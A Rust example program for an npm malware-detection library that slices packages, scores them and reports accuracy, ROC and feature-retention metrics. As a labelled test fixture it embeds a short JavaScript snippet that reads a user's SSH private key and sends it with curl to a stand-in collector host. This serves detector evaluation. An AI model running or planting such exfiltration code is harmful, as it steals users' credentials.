//! From slice scores to corpus numbers: max-score aggregation per
//! package, confusion-matrix metrics with a threshold sweep, and
//! sensitive-feature retention of the slicer output.
//!
//!     cargo run --example evaluate_corpus

use std::collections::BTreeMap;

use npm_slice::cpg::{assemble_cpg, build_cfg, build_dfg, parse_file};
use npm_slice::ingest::{Label, PackageRef};
use npm_slice::{
    aggregate, build_prompt, builtin_catalog, compute_metrics, score_all, sfr, taint_slice,
    PackageVerdict, SliceBudget, StubScorer,
};
use npm_slice::scoring::BUILTIN_TEMPLATE;
use npm_slice::slicer::SliceRun;

const EXFIL: &str = r#"const fs = require('fs');
const cp = require('child_process');
const loot = fs.readFileSync('/home/user/.ssh/id_rsa', 'utf8');
cp.exec('curl -d ' + loot + ' http://collector.example');
"#;

const CLEAN: &str = r#"function add(a, b) { return a + b; }
module.exports = { add };
"#;

fn slices_of(pkg: &str, src: &str) -> SliceRun {
    let mut fg = parse_file("index.js", src);
    build_cfg(&mut fg);
    build_dfg(&mut fg);
    let cpg = assemble_cpg(PackageRef::from_path(pkg), vec![fg]);
    taint_slice(&cpg, &builtin_catalog(), &SliceBudget::unlimited())
}

fn main() {
    let catalog = builtin_catalog();
    let scorer = StubScorer::new(catalog.clone());

    let mut verdicts: Vec<PackageVerdict> = Vec::new();
    let mut labels: BTreeMap<String, Label> = BTreeMap::new();
    for (pkg, src, label) in
        [("exfil-pkg", EXFIL, Label::Malware), ("clean-pkg", CLEAN, Label::Benign)]
    {
        let run = slices_of(pkg, src);
        let bundles: Vec<_> = run
            .slices
            .iter()
            .map(|s| build_prompt(s, BUILTIN_TEMPLATE).unwrap())
            .collect();
        let records = score_all(&scorer, &bundles);
        let v = aggregate(pkg, &records, 0.8);
        println!(
            "{pkg}: {} slice(s), S = {:.2}, verdict = {:?}{}",
            run.slices.len(),
            v.s,
            v.label,
            if v.annotations.is_empty() {
                String::new()
            } else {
                format!(" ({})", v.annotations.join(", "))
            }
        );
        labels.insert(pkg.to_string(), label);
        verdicts.push(v);
    }

    let metrics = compute_metrics(&verdicts, &labels).unwrap();
    println!("\n== metrics at tau = 0.8 ==");
    println!(
        "  TP={} TN={} FP={} FN={}",
        metrics.tp, metrics.tn, metrics.fp, metrics.fn_
    );
    println!("  accuracy  = {:?}", metrics.accuracy);
    println!("  precision = {:?}", metrics.precision);
    println!("  recall    = {:?}", metrics.recall);
    println!("  f1        = {:?}", metrics.f1);

    println!("\n== ROC sweep (every 4th point) ==");
    for p in metrics.roc.iter().step_by(4) {
        println!(
            "  tau={:.2}  fpr={:?}  tpr={:?}",
            p.threshold, p.fpr, p.tpr
        );
    }

    // How many of the package's catalog-matching lines survive slicing?
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("index.js"), EXFIL).unwrap();
    let files = npm_slice::open_package(dir.path()).unwrap();
    let run = slices_of("exfil-pkg", EXFIL);
    let row = sfr(&files, &run.slices, &catalog, "taint");
    println!(
        "\nfeature retention: {}/{} sensitive lines kept -> SFR = {:?}%",
        row.n_retained, row.n_original, row.sfr_percent
    );
}
